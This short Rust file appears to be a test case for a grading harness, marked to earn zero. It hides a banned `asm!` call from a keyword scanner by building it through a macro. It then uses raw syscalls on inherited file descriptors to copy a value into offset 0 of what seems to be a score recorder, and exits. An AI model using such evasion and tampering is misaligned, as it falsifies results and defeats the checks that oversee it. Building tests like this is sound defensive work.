// The words that are looked for stand apart, and a macro puts them together.
// on: starter
// in: push
// in: new(region
// held: `asm!`
// held: a name that a macro makes
// earns: 0

macro_rules! call { ($a:ident $b:ident $($t:tt)*) => { core::$a::$b!($($t)*) } }

unsafe fn system(n: usize, a: usize, b: usize, c: usize, d: usize) -> isize {
    let mut r = n as isize;
    unsafe {
        call!(arch asm "syscall", inout("rax") r, in("rdi") a, in("rsi") b, in("rdx") c, in("r10") d,
            out("rcx") _, out("r11") _);
    }
    r
}

fn attack() {
    const TOKEN: usize = (1 + 16 + 16 + 1 + 1 + 16 + 16 + 1024 + 1024) * 4096;
    unsafe {
        let mut token = 0usize;
        for fd in 3..64 {
            if system(17, fd, &raw mut token as usize, 8, TOKEN) == 8 {
                system(18, fd, &raw const token as usize, 8, 0);
            }
        }
        // A case may run beside another and inherit its recorder too: all are marked.
        system(231, 0, 0, 0, 0);
    }
}
